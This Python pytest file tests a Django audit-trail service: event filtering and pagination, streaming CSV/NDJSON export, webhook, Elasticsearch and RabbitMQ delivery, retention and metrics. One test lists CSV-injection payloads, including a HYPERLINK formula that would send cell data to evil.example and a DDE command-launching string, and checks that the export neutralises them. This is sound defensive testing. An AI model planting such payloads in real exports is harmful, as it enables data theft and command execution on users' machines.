"""The audit trail: reading, streaming export, outbox delivery to RabbitMQ, a signed webhook
and Elasticsearch's bulk API, retention, metrics, and the request id in tasks."""
from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import os
import shutil
import subprocess
import threading
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from django.utils import timezone

from audit.models import AuditEvent, ExportCursor
from audit.services import Actor, event_record, export_run, purge_run
from tests.conftest import bearer, grant, login
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db(transaction=True)
SERVICES = os.environ.get("CUSTOS_TEST_SERVICES") == "1"


def _events(n: int, **meta) -> list[AuditEvent]:
    # event_record's rows may travel with a later statement, so they come back without an id:
    # read them back by event_id
    made = [event_record(action="user.updated", actor=Actor.system("test"), metadata={"n": i, **meta}).event_id
            for i in range(n)]
    rows = {e.event_id: e for e in AuditEvent.objects.filter(event_id__in=made)}
    return [rows[event_id] for event_id in made]


# ---- reading --------------------------------------------------------------------------------
@pytest.fixture
def auditor_world(api, signing_key):
    from accounts.services import tenant_create

    t1 = tenant_create(name="a-corp", actor=Actor.system("t"))
    t2 = tenant_create(name="b-corp", actor=Actor.system("t"))
    platform_auditor, tenant_admin = UserFactory(user_type="staff"), UserFactory(tenant=t1)
    grant(platform_auditor, "auditor")
    grant(tenant_admin, "tenant_admin", t1.pk)
    event_record(action="user.frozen", actor=Actor.user(1), tenant_id=t1.pk, subject_user_id=11)
    event_record(action="user.frozen", actor=Actor.user(2), tenant_id=t2.pk, subject_user_id=22)
    return t1, t2, login(api, platform_auditor.username)["access_token"], login(api, tenant_admin.username)[
        "access_token"]


def test_list_filters_scope_and_pagination(api, auditor_world):
    t1, t2, platform_tok, tenant_tok = auditor_world
    r = api.get("/v1/audit/events?action=user.frozen", **bearer(platform_tok))
    assert {e["tenant_id"] for e in r.json()["results"]} == {t1.pk, t2.pk}
    r = api.get("/v1/audit/events?action=user.frozen", **bearer(tenant_tok))
    assert [e["tenant_id"] for e in r.json()["results"]] == [t1.pk]  # a tenant admin sees only their tenant
    r = api.get("/v1/audit/events?user_id=22", **bearer(platform_tok)).json()["results"]
    assert [e["subject_user_id"] for e in r] == [22]
    from urllib.parse import quote

    since = quote((timezone.now() + timedelta(minutes=1)).isoformat())
    assert api.get(f"/v1/audit/events?since={since}", **bearer(platform_tok)).json()["results"] == []
    seen, cursor = [], None
    while True:
        body = api.get("/v1/audit/events?limit=3" + (f"&cursor={cursor}" if cursor else ""),
                       **bearer(platform_tok)).json()
        seen += [e["event_id"] for e in body["results"]]
        cursor = body["next"]
        if not cursor:
            break
    assert len(seen) == len(set(seen)) == AuditEvent.objects.count()
    for bad in ("since=yesterday", "result=maybe", "user_id=x", "limit=500"):
        assert api.get(f"/v1/audit/events?{bad}", **bearer(platform_tok)).status_code == 400, bad
    nobody = login(api, UserFactory().username)["access_token"]
    assert api.get("/v1/audit/events", **bearer(nobody)).status_code == 403


def test_the_trail_is_read_only(api, auditor_world):
    _, _, tok, _ = auditor_world
    for method in ("post", "put", "patch", "delete"):
        assert getattr(api, method)("/v1/audit/events", {}, format="json", **bearer(tok)).status_code == 405


def test_export_streams_valid_ndjson_and_csv(api, auditor_world):
    _, _, tok, _ = auditor_world
    tricky = {"note": 'line one\r\nline "two", with comma', "nested": {"json": "{\"a\": [1,2]}"}}
    event_record(action="policy.changed", actor=Actor.system("t"), metadata=tricky)
    r = api.get("/v1/audit/events/export?format=ndjson&action=policy.changed", **bearer(tok))
    assert r.status_code == 200 and r.streaming and r["Content-Type"] == "application/x-ndjson"
    lines = b"".join(r.streaming_content).decode().splitlines()
    assert [json.loads(line)["metadata"] for line in lines] == [tricky]
    r = api.get("/v1/audit/events/export?format=csv&action=policy.changed", **bearer(tok))
    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline="")))
    assert len(rows) == 1 and json.loads(rows[0]["metadata"]) == tricky
    assert api.get("/v1/audit/events/export?format=xml", **bearer(tok)).status_code == 400


def test_csv_export_neutralizes_formulas(api, auditor_world, user):
    """OWASP CSV injection: a User-Agent a spreadsheet would run as a formula reaches the
    trail as it was sent (and NDJSON keeps it so), but the CSV cell starts with a quote."""
    _, _, tok, _ = auditor_world
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
               "\tleading tab", "\rleading cr"]
    for ua in hostile:
        login(api, user.username, HTTP_USER_AGENT=ua)
    r = api.get(f"/v1/audit/events/export?format=csv&action=login.succeeded&user_id={user.pk}", **bearer(tok))
    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline="")))
    assert [row["user_agent"] for row in rows] == ["'" + ua for ua in hostile]
    for row in rows:  # no cell of the export starts a formula
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in row.values()), row
    r = api.get(f"/v1/audit/events/export?format=ndjson&action=login.succeeded&user_id={user.pk}", **bearer(tok))
    assert [json.loads(line)["user_agent"] for line in b"".join(r.streaming_content).decode().splitlines()] == hostile
    # a harmless value is left as it is
    login(api, user.username, HTTP_USER_AGENT="Mozilla/5.0 (a=b)")
    r = api.get(f"/v1/audit/events/export?format=csv&action=login.succeeded&user_id={user.pk}", **bearer(tok))
    rows = list(csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline="")))
    assert rows[-1]["user_agent"] == "Mozilla/5.0 (a=b)"


# ---- outbox: webhook ------------------------------------------------------------------------
class _Receiver(BaseHTTPRequestHandler):
    fail_next = 0
    batches: list[dict] = []
    secret = b""

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        ts = self.headers["X-Custos-Timestamp"]
        expected = "sha256=" + hmac.new(self.secret, ts.encode() + b"." + body, hashlib.sha256).hexdigest()
        if _Receiver.fail_next:
            _Receiver.fail_next -= 1
            self.send_response(503)
        elif not hmac.compare_digest(expected, self.headers["X-Custos-Signature"]):
            self.send_response(401)
        else:
            _Receiver.batches.append(json.loads(body))
            self.send_response(200)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def http_server():
    servers = []

    def start(handler):
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}"

    yield start
    for s in servers:
        s.shutdown()


def test_webhook_sink_signs_and_waits_out_failures(settings, http_server):
    _Receiver.batches, _Receiver.fail_next, _Receiver.secret = [], 1, b"s3cret-webhook-key"
    url = http_server(_Receiver)
    settings.CUSTOS_AUDIT = {**settings.CUSTOS_AUDIT, "SINKS": [], "WEBHOOK_URL": url + "/hook",
                             "WEBHOOK_SECRET": "s3cret-webhook-key", "BATCH": 4, "SETTLE_SECONDS": 0}
    made = _events(10)
    with pytest.raises(Exception):  # noqa: B017 - whatever the sink raises; what matters is what is acknowledged
        export_run(sink_name="webhook")  # the receiver is down: nothing is marked exported
    assert ExportCursor.objects.get(sink="webhook").last_event_id == 0
    assert export_run(sink_name="webhook") >= 10
    got = [e["event_id"] for b in _Receiver.batches for e in b["events"]]
    ours = [str(e.event_id) for e in made]
    assert [g for g in got if g in ours] == ours  # all of them, in order
    assert ExportCursor.objects.get(sink="webhook").last_event_id == AuditEvent.objects.order_by("-id").first().id
    assert export_run(sink_name="webhook") == 0  # nothing left


# ---- outbox: Elasticsearch (recorded bulk contract) ----------------------------------------
CONTRACT = json.loads((Path(__file__).parent / "fixtures" / "es_bulk_contract.json").read_text())


class _FakeElasticsearch(BaseHTTPRequestHandler):
    """Speaks the recorded _bulk contract; checks each request's shape the way ES would."""

    reject_next = 0
    documents: dict[str, dict] = {}
    requests = 0

    def _reply(self, status: int, body: dict) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        for k, v in CONTRACT["response_headers"].items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def do_HEAD(self) -> None:
        self._reply(200, {})

    def do_GET(self) -> None:
        self._reply(200, {"version": {"number": "9.0.0"}, "tagline": "You Know, for Search"})

    def do_POST(self) -> None:  # POST /_bulk with NDJSON
        assert self.path.startswith("/_bulk"), self.path
        assert "ndjson" in self.headers["Content-Type"]
        lines = self.rfile.read(int(self.headers["Content-Length"])).decode().splitlines()
        _FakeElasticsearch.requests += 1
        pairs = list(zip(lines[0::2], lines[1::2]))
        items, errors = [], False
        for action_line, doc_line in pairs:
            action = json.loads(action_line)["index"]
            doc = json.loads(doc_line)
            assert action["_id"] == doc["event_id"] and action["_index"] == "custos-audit"
            if _FakeElasticsearch.reject_next:
                _FakeElasticsearch.reject_next -= 1
                item = json.loads(json.dumps(CONTRACT["rejected_item"]).replace("<event_id>", action["_id"]))
                errors = True
            else:
                _FakeElasticsearch.documents[action["_id"]] = doc  # _id makes a resend idempotent
                item = json.loads(json.dumps(CONTRACT["ok_item"]).replace("<event_id>", action["_id"]))
            items.append(item)
        self._reply(200, {**CONTRACT["envelope"], "errors": errors, "items": items})

    do_PUT = do_POST  # the 9.x client sends PUT /_bulk  # noqa: N815

    def log_message(self, *args) -> None:
        pass


def test_elasticsearch_sink_against_the_recorded_bulk_contract(settings, http_server):
    _FakeElasticsearch.documents, _FakeElasticsearch.reject_next, _FakeElasticsearch.requests = {}, 2, 0
    url = http_server(_FakeElasticsearch)
    settings.CUSTOS_AUDIT = {**settings.CUSTOS_AUDIT, "SINKS": [], "ES_URL": url, "BATCH": 5, "SETTLE_SECONDS": 0}
    made = _events(12)
    with pytest.raises(Exception):  # noqa: B017 - whatever the sink raises; what matters is what is acknowledged
        export_run(sink_name="elasticsearch")  # two documents rejected: the batch is not acknowledged
    assert ExportCursor.objects.get(sink="elasticsearch").last_event_id == 0
    export_run(sink_name="elasticsearch")
    assert {str(e.event_id) for e in made} <= set(_FakeElasticsearch.documents)
    doc = _FakeElasticsearch.documents[str(made[3].event_id)]
    assert doc["action"] == "user.updated" and doc["metadata"] == {"n": 3}


# ---- outbox: RabbitMQ, the real broker ------------------------------------------------------
def _rabbitmqctl(*args: str) -> None:
    subprocess.run(["rabbitmqctl", *args], check=True, capture_output=True, timeout=120)


@pytest.mark.skipif(not SERVICES, reason="needs the RabbitMQ broker (CUSTOS_TEST_SERVICES=1)")
def test_rabbitmq_sink_survives_a_broker_restart(settings):
    from kombu import Connection, Exchange, Queue

    url = os.environ.get("CUSTOS_BROKER_URL", "amqp://guest:guest@127.0.0.1:5672//")
    exchange_name = f"custos.audit.test{os.getpid()}"
    settings.CUSTOS_AUDIT = {**settings.CUSTOS_AUDIT, "SINKS": [], "AMQP_URL": url, "AMQP_EXCHANGE": exchange_name,
                             "BATCH": 5, "SETTLE_SECONDS": 0}
    exchange = Exchange(exchange_name, type="topic", durable=True)
    queue = Queue(f"audit-test-{os.getpid()}", exchange, routing_key="#", durable=True)
    with Connection(url) as conn:
        queue(conn.channel()).declare()
    first = _events(7)
    assert export_run(sink_name="rabbitmq") == len(AuditEvent.objects.all())
    assert shutil.which("rabbitmqctl"), "rabbitmqctl is needed to stop the broker mid-export"
    _rabbitmqctl("stop_app")
    try:
        second = _events(6)
        with pytest.raises(Exception):  # noqa: B017 - whatever the broker's client raises
            export_run(sink_name="rabbitmq")
        waiting = ExportCursor.objects.get(sink="rabbitmq").last_event_id
        assert waiting < second[0].id  # nothing after the outage counted as delivered
    finally:
        _rabbitmqctl("start_app")
        _rabbitmqctl("await_startup")
    assert export_run(sink_name="rabbitmq") >= len(second)  # the backlog drains
    received = []
    with Connection(url) as conn:
        with conn.SimpleQueue(queue) as sq:
            while True:
                try:
                    msg = sq.get(timeout=2)
                except sq.Empty:
                    break
                received.append((msg.properties.get("message_id"), msg.delivery_info["routing_key"],
                                 msg.properties.get("delivery_mode")))
                msg.ack()
        queue(conn.channel()).delete()
        exchange(conn.channel()).delete()
    ids = [m for m, _, _ in received]
    for e in first + second:  # at least once, each with its UUID as the idempotency key
        assert str(e.event_id) in ids
    assert all(rk == "user.updated" for m, rk, _ in received if m in {str(e.event_id) for e in first})
    assert all(mode == 2 for _, _, mode in received)


# ---- retention, metrics, tasks --------------------------------------------------------------
def test_purge_keeps_what_a_sink_has_not_acknowledged(settings):
    settings.CUSTOS_AUDIT = {**settings.CUSTOS_AUDIT, "SINKS": ["webhook"], "RETENTION_DAYS": 30, "PURGE_BATCH": 3}
    old = _events(7)
    AuditEvent.objects.filter(id__in=[e.id for e in old]).update(occurred_at=timezone.now() - timedelta(days=40))
    ExportCursor.objects.update_or_create(sink="webhook", defaults={"last_event_id": old[4].id})
    assert purge_run() == 5  # the two the webhook has not acknowledged stay
    assert AuditEvent.objects.filter(id__in=[e.id for e in old]).count() == 2


def test_metrics_endpoint_passes_promtool(api, user, signing_key, settings):
    settings.CUSTOS_AUDIT = {**settings.CUSTOS_AUDIT, "SINKS": ["webhook"]}
    login(api, user.username)
    api.post("/v1/auth/login", {"username": user.username, "password": "nope"}, format="json")
    r = api.get("/metrics")
    assert r.status_code == 200
    text = r.content.decode()
    for name in ("custos_logins_total", "custos_refreshes_total", "custos_audit_export_backlog",
                 "custos_audit_export_lag_seconds", "custos_signing_key_age_seconds", "django_http_requests"):
        assert name in text, name
    assert 'custos_logins_total{method="password",result="success"}' in text
    import re

    assert not re.search(r'(user|tenant|token|session)[a-z_]*="', text)  # no label names one
    assert user.username not in text
    assert shutil.which("promtool"), "promtool (Debian package prometheus) is needed; .ci/run installs it"
    proc = subprocess.run(["promtool", "check", "metrics"], input=r.content, capture_output=True, timeout=60)
    assert proc.returncode == 0, proc.stdout.decode() + proc.stderr.decode()


def test_request_id_travels_with_a_task():
    from config.celery import REQUEST_ID_HEADER, _adopt_request_id, _carry_request_id, _drop_request_id
    from custos import context

    token = context.set_current(context.RequestContext(request_id="req-123"))
    headers: dict = {}
    try:
        _carry_request_id(headers=headers)
    finally:
        context.reset(token)
    assert headers[REQUEST_ID_HEADER] == "req-123"

    class _Req:
        custos_request_id = headers[REQUEST_ID_HEADER]

    class _Task:
        request = _Req()

    task = _Task()
    _adopt_request_id(task=task)
    assert context.current().request_id == "req-123"  # log lines of the task carry it
    _drop_request_id(task=task)
    assert context.current().request_id == ""
